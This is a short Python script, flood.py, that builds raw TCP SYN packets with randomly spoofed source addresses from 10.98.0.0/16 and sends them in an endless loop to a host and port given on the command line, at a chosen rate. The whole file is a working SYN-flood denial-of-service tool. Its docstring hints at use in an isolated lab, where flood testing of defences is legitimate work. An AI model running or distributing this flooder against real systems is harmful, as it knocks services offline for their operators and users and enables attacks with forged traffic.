"""SYNs from addresses that never answer: `flood.py HOST PORT RATE`. Run where 10.98.0.0/16 leads nowhere."""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

_EVERY_SECONDS = 0.02


def checksum(data: bytes) -> int:
    words = struct.unpack(f"!{len(data) // 2}H", data)
    total = sum(words)
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: bytes, target: bytes, port: int) -> bytes:
    """A whole IPv4 packet; the kernel fills in the checksum of the header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    ends = (random.randint(1024, 65535), port, random.getrandbits(32), 0, 0x50, 0x02, 64240)
    head = struct.pack("!HHIIBBHHH", *ends, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return ip + struct.pack("!HHIIBBHHH", *ends, checksum(pseudo + head), 0)


def main(host: str, port: int, rate: float) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(host)
    while True:
        for _ in range(round(rate * _EVERY_SECONDS)):
            source = bytes((10, 98, random.randint(0, 255), random.randint(1, 254)))
            sock.sendto(syn(source, target, port), (host, 0))
        time.sleep(_EVERY_SECONDS)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
